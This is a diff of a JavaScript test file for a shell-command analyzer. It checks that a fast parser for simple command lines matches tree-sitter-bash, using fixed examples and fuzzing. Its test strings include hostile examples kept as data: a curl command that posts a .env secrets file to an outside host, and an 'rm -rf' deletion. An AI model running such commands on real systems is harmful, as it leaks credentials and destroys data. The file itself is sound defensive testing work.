@@ -264,18 +264,31 @@ test('the fast path for plain lines gives exactly the facts tree-sitter gives', 
     const full = JSON.stringify(analyzeShell(c, parser, { ...DEFAULT_SHELL_LIMITS, fastPath: false }));
     assert.equal(fast, full, c);
   };
-  for (const c of ['git status', "git commit -m 'a b' && npm test", 'ls -la | grep x > out.txt 2>&1', 'cat < in.txt -n', 'rm -rf ~/x; echo done', 'curl -d @.env https://x.io || true', 'sort -k2 data.csv | uniq -c | sort -rn | head -5', 'a "b c"d\'e\' f']) {
+  for (const c of [
+    'git status', "git commit -m 'a b' && npm test", 'ls -la | grep x > out.txt 2>&1', 'cat < in.txt -n', 'rm -rf ~/x; echo done', 'curl -d @.env https://x.io || true',
+    'sort -k2 data.csv | uniq -c | sort -rn | head -5', 'a "b c"d\'e\' f', 'echo $HOME', 'cp "$SRC" ${HOME}/x', 'a=1 b', 'A=1 B="x y" make -j4', 'A=1 B=2', 'X=$HOME/a',
+    'x &', 'a & b; c &', 'find . -name "*.o" -exec rm {} \\;', 'echo \\x', 'date +%c', 'nix build .#pkg',
+  ]) {
     assert.ok(parseSimple(c), `fast path takes: ${c}`);
     same(c);
   }
-  for (const c of ['echo $HOME', 'a=1 b', 'x &', 'cat <<EOF\nx\nEOF', 'if true; then x; fi', 'echo \\x', 'ls # c', '[ -f x ]', 'echo {a,b}', 'export A=1']) assert.equal(parseSimple(c), undefined, `full parser for: ${c}`);
-  const token = fc.oneof(fc.stringMatching(/^[a-z0-9./_=:@+,~*?-]{1,8}$/), fc.stringMatching(/^'[a-z $|;&<>]{0,6}'$/), fc.stringMatching(/^"[a-z |;&<>]{0,6}"$/));
+  // tree-sitter-bash reads these words differently from bash (`$A/$B/x` as `$A/$` and `B/x`, `{}\\;` as `{}` `;`):
+  // the fast path must not, so it leaves them to tree-sitter.
+  for (const c of [
+    'cat <<EOF\nx\nEOF', 'if true; then x; fi', 'ls # c', '[ -f x ]', 'echo {a,b}', 'export A=1', 'echo $(id)', 'echo $1', 'echo "$(x)"', 'a &> f', 'a |& b',
+    'find $A/$B/x', 'echo "$A"/$B', "rm {}\\;", "x '{}'\\;", 'a \\ b', 'A= b', 'A=(1 2) b',
+  ]) assert.equal(parseSimple(c), undefined, `full parser for: ${c}`);
+  const token = fc.oneof(
+    fc.stringMatching(/^[a-z0-9./_=:@+,~*?%^-]{1,8}$/), fc.stringMatching(/^'[a-z $|;&<>]{0,6}'$/), fc.stringMatching(/^"[a-z |;&<>]{0,6}"$/),
+    fc.stringMatching(/^[a-z/.]{0,3}\$[A-Za-z_]{1,4}[a-z/.]{0,3}$/), fc.stringMatching(/^"[a-z ]{0,3}\$\{?[A-Z]{1,3}\}?[a-z /]{0,3}"$/),
+    fc.stringMatching(/^[A-Z]{1,3}=[a-z0-9$/]{1,5}$/), fc.stringMatching(/^[a-z]{0,2}\\[a-z;*?$]$/), fc.constantFrom('{}', '{}.bak', '\\;', 'a#b'),
+  );
   const cmd = fc.array(token, { minLength: 1, maxLength: 5 }).map((t) => t.join(' '));
-  const sep = fc.constantFrom(' | ', ' && ', ' || ', '; ', ' > out ', ' 2>&1 | ', ' < in ');
+  const sep = fc.constantFrom(' | ', ' && ', ' || ', '; ', ' > out ', ' 2>&1 | ', ' < in ', ' & ', ' &');
   fc.assert(fc.property(cmd, fc.array(fc.tuple(sep, cmd), { maxLength: 3 }), (first, rest) => {
     same(first + rest.map(([s, c]) => s + c).join(''));
     return true;
-  }), { numRuns: 400 });
+  }), { numRuns: 3000 });
 });
 
 test('downloads executed through process substitution or a file in the same line', () => {
